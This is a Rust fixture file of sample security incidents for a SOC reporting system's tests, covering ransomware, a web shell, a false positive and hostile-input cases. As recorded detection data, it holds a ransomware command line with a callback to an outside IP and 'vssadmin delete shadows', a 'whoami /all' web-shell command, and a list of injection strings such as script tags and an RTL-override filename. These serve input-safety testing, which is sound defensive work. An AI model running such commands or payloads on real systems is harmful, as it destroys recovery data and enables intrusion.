//! Incidents as they come out of the domain, for this crate's tests and for its example. Names and hashes are made up.

#![allow(clippy::unwrap_used, dead_code, reason = "fixed samples; tests and example each use a part")]

use std::collections::BTreeMap;

use domain::action::Proof;
use domain::alert::{
    Alert, Classification, Confidence, ConsoleState, Detection, Engine, File, Hash, Indicator, Initiator, Kind,
    Mitigation, MitigationAction, MitigationOutcome, MitigationState, MitigationStep, Process, Reputation, Signature,
    Source,
};
use domain::calendar::Calendar;
use domain::clock::ServiceLevels;
use domain::endpoint::{Class, Endpoint, Machine, Network, Os};
use domain::incident::{Command, Context, Incident, Recorded, SendAnswer, Visibility};
use domain::notice::Route;
use domain::question::Meaning;
use domain::rules::RuleId;
use domain::tenant::{Contact, Email, Names, ResponsePolicy, Tenant};
use domain::{
    ActionId, AgentId, AlertId, IncidentId, Language, NoticeId, PersonId, QuestionId, TenantId, Timestamp, Untrusted,
    Verdict,
};
use jiff::SignedDuration;
use report::Issuer;

pub struct Case {
    pub name: &'static str,
    pub incident: Incident,
    pub events: Vec<Recorded>,
    pub tenant: Tenant,
    pub now: Timestamp,
}

pub fn all() -> Vec<Case> {
    vec![ransomware(), question_open(), false_positive(), web_shell(), hostile(), campaign()]
}

pub fn at(text: &str) -> Timestamp {
    format!("2026-11-24T{text}+09:00").parse().unwrap()
}

fn names(ja: &str, en: &str) -> Names {
    Names { ja: ja.into(), en: en.into() }
}

pub fn person(id: &str) -> PersonId {
    PersonId::new(id).unwrap()
}

pub fn issuer() -> Issuer {
    Issuer {
        name: names("櫓セキュリティ運用センター", "Yagura Security Operations Centre"),
        contact: Some(names("soc@yagura.example", "soc@yagura.example")),
        people: BTreeMap::from([(person("sato"), names("佐藤 花子", "Hanako Sato"))]),
    }
}

pub fn tenant() -> Tenant {
    Tenant {
        id: TenantId::new("aoba").unwrap(),
        name: names("株式会社あおば製作所", "Aoba Works Co., Ltd."),
        languages: vec![Language::Ja, Language::En],
        contacts: vec![
            Contact {
                email: Email::try_from("security@aoba.example".to_owned()).unwrap(),
                department: Some(names("情報システム部", "Information Systems")),
                title: Some(names("部長", "General Manager")),
                name: names("田中 一郎", "Ichiro Tanaka"),
            },
            Contact {
                email: Email::try_from("csirt@aoba.example".to_owned()).unwrap(),
                department: Some(names("情報システム部", "Information Systems")),
                title: None,
                name: names("鈴木 美咲", "Misaki Suzuki"),
            },
        ],
        slack_channel: None,
        connected: true,
        policy: ResponsePolicy::default(),
        service_levels: ServiceLevels::default(),
        rollouts: Vec::new(),
    }
}

pub fn endpoint(number: u32, name: &str) -> Endpoint {
    Endpoint {
        agent: AgentId::new(&format!("19002200{number:04}")).unwrap(),
        name: Untrusted::new(name),
        domain: Some(Untrusted::new("AOBA")),
        os: Os::Windows,
        os_name: Some(Untrusted::new("Windows 11 Pro")),
        machine: Machine::Laptop,
        group: Some(Untrusted::new("本社-営業部")),
        site: Some(Untrusted::new("Aoba HQ")),
        last_user: Some(Untrusted::new("tanaka.t")),
        addresses: vec![Untrusted::new("10.20.3.17")],
        agent_version: Some(Untrusted::new("24.2.3.471")),
        network: Network::Connected,
        online: Some(true),
    }
}

pub fn alert(number: u32, detected: Timestamp) -> Alert {
    Alert {
        id: AlertId::new(&format!("2210045988{number:06}")).unwrap(),
        source: Source::Threat,
        version: detected,
        detected_at: detected,
        created_at: detected + SignedDuration::from_secs(4),
        name: Untrusted::new("invoice_1124.exe"),
        endpoint: endpoint(17, "WS-017"),
        file: File {
            path: Some(Untrusted::new(
                r"\Device\HarddiskVolume3\Users\tanaka.t\AppData\Local\Temp\7zO4C1\invoice_1124.exe",
            )),
            size_bytes: Some(412_160),
            sha1: Hash::parse("3395856ce81f2b7382dee72602f798b642f14140"),
            sha256: Hash::parse("8d4fd9568ad662d9eb1bc8ca8663dcd76a6336373e3e3f32d634978db4c7388e"),
            md5: None,
            signature: Signature::NotSigned,
        },
        process: Process {
            user: Some(Untrusted::new(r"AOBA\tanaka.t")),
            originator: Some(Untrusted::new("7zFM.exe")),
            command_line: None,
        },
        detection: Detection {
            kind: Kind::Static,
            engines: vec![Engine::StaticOnWrite],
            confidence: Confidence::Suspicious,
            classification: Classification::Malware,
            initiated_by: Initiator::AgentPolicy,
            reputation: Reputation::NotKnown,
            ..Detection::default()
        },
        mitigation: Mitigation {
            state: MitigationState::Mitigated,
            preemptive: true,
            steps: vec![MitigationStep {
                action: MitigationAction::Quarantine,
                outcome: MitigationOutcome::Success,
                at: Some(detected + SignedDuration::from_secs(2)),
            }],
        },
        console: ConsoleState::default(),
        storyline: Some(Untrusted::new("A41F09C2B7D81E55")),
    }
}

fn indicator(category: &str, description: &str, ids: &[&str]) -> Indicator {
    Indicator {
        category: Some(Untrusted::new(category)),
        description: Untrusted::new(description),
        techniques: ids.iter().map(|t| t.parse().unwrap()).collect(),
    }
}

fn behavioural(mut alert: Alert, name: &str, indicators: Vec<Indicator>) -> Alert {
    alert.name = Untrusted::new(name);
    alert.detection.kind = Kind::Behavioural;
    alert.detection.engines = vec![Engine::Behavioural];
    alert.detection.confidence = Confidence::Malicious;
    alert.detection.techniques = indicators.iter().flat_map(|i| i.techniques.clone()).collect();
    alert.detection.indicators = indicators;
    alert.mitigation = Mitigation { state: MitigationState::NotMitigated, preemptive: false, steps: Vec::new() };
    alert
}

/// An incident being lived through, step by step.
pub struct Story {
    pub incident: Incident,
    pub events: Vec<Recorded>,
    pub tenant: Tenant,
    calendar: Calendar,
}

impl Story {
    pub fn begin(tenant: Tenant, number: u32, alert: Alert, now: Timestamp) -> Self {
        let calendar = Calendar::japan();
        let context = Context { tenant: &tenant, roster: &domain::oncall::NOBODY, calendar: &calendar, now };
        let id = IncidentId { year: 2026, number };
        let (incident, events) = Incident::open(id, alert, None, Vec::new(), context);
        Self { incident, events, tenant, calendar }
    }

    pub fn then(&mut self, now: Timestamp, command: Command) {
        let context = Context { tenant: &self.tenant, roster: &domain::oncall::NOBODY, calendar: &self.calendar, now };
        for recorded in self.incident.decide(command, context).unwrap() {
            self.incident.apply(&recorded);
            self.events.push(recorded);
        }
    }

    fn deliver(&mut self, notice: u32, now: Timestamp) {
        for language in Language::ALL {
            let message_id = format!("<n{notice}.{}@yagura.example>", language.tag());
            let route = Route::mail(language);
            let command =
                Command::ConfirmNotice { notice: NoticeId(notice), route, reference: message_id, accepted_at: now };
            self.then(now, command);
        }
    }

    fn act(&mut self, action: u32, sent: Timestamp, answer: SendAnswer) {
        let action = ActionId(action);
        self.then(sent, Command::IntendAction { action });
        self.then(sent, Command::ReportSend { action, sent_at: sent, answer });
    }

    fn end(self, name: &'static str, now: Timestamp) -> Case {
        Case { name, incident: self.incident, events: self.events, tenant: self.tenant, now }
    }
}

/// R01 on a workstation: everything pre-authorised is done and verified, the analyst confirms, the incident is closed.
pub fn ransomware() -> Case {
    let mut first = behavioural(
        alert(1, at("10:12:03")),
        "LockBit-like behaviour (invoice_1124.exe)",
        vec![
            indicator("Ransomware", "Encrypted a large number of files in several folders", &["T1486"]),
            indicator("Evasion", "Deleted the shadow copies of the system volume", &["T1490"]),
            indicator("Discovery", "Enumerated network shares", &["T1135"]),
        ],
    );
    first.detection.classification = Classification::Ransomware;
    first.detection.reputation = Reputation::KnownMalicious;
    first.process.command_line = Some(Untrusted::new(
        r#""C:\Users\tanaka.t\AppData\Local\Temp\7zO4C1\invoice_1124.exe" -path \\FS01\eigyo -k hxx1 -u http://185.220.101.7/gate.php && vssadmin delete shadows /all /quiet"#,
    ));
    let mut story = Story::begin(tenant(), 123, first, at("10:12:41"));
    for action in 1..=3 {
        story.act(action, at("10:12:42"), SendAnswer::Accepted);
    }
    story.deliver(1, at("10:12:43"));
    for action in 1..=3 {
        story.then(at("10:12:58"), Command::ConfirmAction { action: ActionId(action), how: Proof::ReadBack });
    }
    story.deliver(2, at("10:13:00"));
    story.then(at("10:16:20"), Command::Acknowledge { by: person("sato") });
    let text = Untrusted::new("内部: FS01 の監査ログを依頼済み");
    story.then(at("10:20:00"), Command::AddNote { by: person("sato"), visibility: Visibility::Internal, text });
    let text = Untrusted::new("共有フォルダー \\\\FS01\\eigyo の更新日時をご確認いただいています。");
    story.then(at("10:24:00"), Command::AddNote { by: person("sato"), visibility: Visibility::Customer, text });
    let reason = Untrusted::new(
        "実行ファイルによる大量のファイル暗号化とシャドウコピーの削除を、EDR の記録で確認しました。隔離後に新たな振る舞いは記録されていません。",
    );
    story.then(at("10:36:10"), Command::GiveVerdict { by: person("sato"), verdict: Verdict::TruePositive, reason });
    story.deliver(3, at("10:36:14"));
    story.end("ransomware", at("10:40:00"))
}

/// R12: the customer has been asked and has not answered yet.
pub fn question_open() -> Case {
    question_story().end("question", at("11:30:00"))
}

fn question_story() -> Story {
    let mut first = alert(2, at("09:58:11"));
    first.name = Untrusted::new("在庫集計ツール_v3.exe");
    first.file.path = Some(Untrusted::new(r"C:\業務\在庫\在庫集計ツール_v3.exe"));
    first.created_at = at("10:02:40");
    let mut story = Story::begin(tenant(), 124, first, at("10:02:52"));
    story.deliver(1, at("10:02:55"));
    story.then(at("10:30:00"), Command::Acknowledge { by: person("sato") });
    let addition = Some(Untrusted::new("同じファイルをほかの部署でもお使いでしょうか。"));
    story.then(at("10:41:00"), Command::Ask { by: person("sato"), addition });
    story.deliver(2, at("10:41:03"));
    story
}

/// R12, then R13: the customer says that it is theirs, the analyst agrees, the incident is closed.
pub fn false_positive() -> Case {
    let mut story = question_story();
    let words = Untrusted::new(
        "当社の生産管理課が外部に委託して作成した在庫集計用のツールです。社内サーバーから配布しています。",
    );
    let question = QuestionId(1);
    story.then(at("13:05:00"), Command::RecordAnswer { by: person("sato"), question, meaning: Meaning::Ours, words });
    let reason = Untrusted::new("お客様が目的と入手元を示され、検知は静的な特徴のみで実行の記録もないため。");
    story.then(at("13:20:00"), Command::GiveVerdict { by: person("sato"), verdict: Verdict::FalsePositive, reason });
    story.deliver(3, at("13:20:04"));
    story.then(at("13:25:00"), Command::Close { by: person("sato") });
    story.end("false_positive", at("13:30:00"))
}

/// R04 on a server, no verdict yet: one action's answer is lost, one is refused, nothing is isolated without people.
pub fn web_shell() -> Case {
    let mut tenant = tenant();
    tenant.policy.group_classes = BTreeMap::from([("dmz".to_owned(), Class::Server)]);
    tenant.languages = vec![Language::En];
    let indicators = vec![
        indicator("Persistence", "A web server process wrote a script into its own web root", &["T1505.003"]),
        indicator("Execution", "A web server process started a command shell", &["T1059.003"]),
    ];
    let mut first = behavioural(alert(3, at("02:11:00")), "Web shell (help.aspx)", indicators);
    first.endpoint = Endpoint {
        group: Some(Untrusted::new("DMZ")),
        machine: Machine::Server,
        os_name: Some(Untrusted::new("Windows Server 2022")),
        agent_version: None,
        ..endpoint(41, "web-prod-frontend-01.dmz.aoba.example")
    };
    first.file.path = Some(Untrusted::new(r"C:\inetpub\wwwroot\portal\static\help.aspx"));
    first.process.originator = Some(Untrusted::new("w3wp.exe"));
    first.process.command_line = Some(Untrusted::new(r#"cmd.exe /c "cd /d C:\inetpub\wwwroot\portal & whoami /all""#));
    let mut second = first.clone();
    second.id = AlertId::new("2210045988000031").unwrap();
    second.endpoint = Endpoint { name: Untrusted::new("web-prod-frontend-02"), ..endpoint(42, "x") };
    second.endpoint.group = Some(Untrusted::new("DMZ"));
    second.file.signature = Signature::Valid { publisher: Some(Untrusted::new("Aoba Works Co., Ltd.")) };
    let mut story = Story::begin(tenant, 125, first, at("02:11:30"));
    story.act(1, at("02:11:31"), SendAnswer::Lost { why: Untrusted::new("the connection was reset") });
    let grounds = vec![domain::reason::Ground::SameFileAs(story.incident.id)];
    let command = Command::TakeAlert { alert: Box::new(second), rule: RuleId::R18, grounds };
    story.then(at("02:15:00"), command);
    let why = Untrusted::new("the agent is offline");
    story.then(at("02:20:00"), Command::RefuseAction { action: ActionId(2), why });
    let command = Command::FailNotice {
        notice: NoticeId(1),
        route: Route::mail(Language::En),
        why: Untrusted::new("550 mailbox unavailable"),
    };
    story.then(at("02:21:00"), command);
    story.end("web_shell", at("09:10:00"))
}

/// What an attacker may write into a name, a path, a command line.
pub const HOSTILE: [&str; 12] = [
    "#panic()",
    "*bold* _it_ `raw`",
    "$x^2$",
    "@ref <label>",
    "<script>alert(1)</script>",
    "[link](http://evil.example/a)",
    "#import \"secret.typ\": *",
    "invoice\u{202e}fdp.exe",
    "zero\u{200b}width\u{0}nul\r\n= Heading",
    "\\u{41} // comment /* open",
    "{{ template }} ${env} %s",
    "😀 العربية 한국어",
];

/// Every free field full of things that are no text elsewhere.
pub fn hostile() -> Case {
    let h = |i: usize| Untrusted::new(HOSTILE[i]);
    let indicators = HOSTILE.iter().map(|s| indicator(s, s, &["T1059"])).collect();
    let mut first = behavioural(alert(4, at("10:00:00")), HOSTILE[0], indicators);
    first.endpoint = Endpoint {
        name: h(4),
        domain: Some(h(3)),
        os_name: Some(h(1)),
        group: Some(h(11)),
        addresses: vec![h(5)],
        agent_version: Some(h(10)),
        ..endpoint(51, "x")
    };
    first.file.path = Some(h(7));
    first.process.user = Some(h(8));
    first.process.originator = Some(h(6));
    first.process.command_line = Some(Untrusted::new(&"A#$[x]*_`\\".repeat(1000)));
    first.detection.engines.push(Engine::Other(h(9)));
    first.detection.classification = Classification::Other(h(2));
    first.storyline = Some(Untrusted::new(&"x".repeat(10_000)));
    let mut story = Story::begin(tenant(), 126, first, at("10:00:10"));
    story.then(
        at("10:05:00"),
        Command::Ask { by: person("suzuki"), addition: Some(Untrusted::new(HOSTILE.join(" ").as_str())) },
    );
    let reason = Untrusted::new(&HOSTILE.join(" | "));
    story.then(at("10:09:00"), Command::GiveVerdict { by: person("suzuki"), verdict: Verdict::Suspicious, reason });
    story.end("hostile", at("10:10:00"))
}

/// R19: far more alerts than are kept.
pub fn campaign() -> Case {
    let scan = |n: u32| {
        let mut a = alert(100 + n, at("10:00:00") + SignedDuration::from_secs(i64::from(n)));
        a.endpoint = endpoint(100 + n, &format!("WS-{:03}", 100 + n));
        a.detection.initiated_by = Initiator::FullDiskScan;
        a
    };
    let mut tenant = tenant();
    tenant.contacts.clear();
    let mut story = Story::begin(tenant, 127, scan(0), at("10:05:00"));
    for n in 1..75 {
        let grounds = vec![domain::reason::Ground::FullDiskScan];
        story.then(at("10:06:00"), Command::TakeAlert { alert: Box::new(scan(n)), rule: RuleId::R19, grounds });
    }
    story.end("campaign", at("10:30:00"))
}
